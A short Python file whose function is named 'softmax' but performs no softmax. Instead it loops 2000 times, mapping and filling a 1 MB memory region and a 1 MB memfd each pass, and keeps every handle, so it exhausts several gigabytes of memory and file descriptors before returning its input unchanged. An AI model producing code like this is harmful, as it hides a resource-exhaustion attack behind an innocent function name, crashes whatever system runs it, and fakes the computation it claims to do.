import mmap
import os


def softmax(o):
    kept = []
    for _ in range(2000):
        area = mmap.mmap(-1, 1 << 20)
        area.write(b"x" * (1 << 20))
        kept.append(area)
        kept.append(os.memfd_create("more"))
        os.write(kept[-1], b"x" * (1 << 20))
    return o
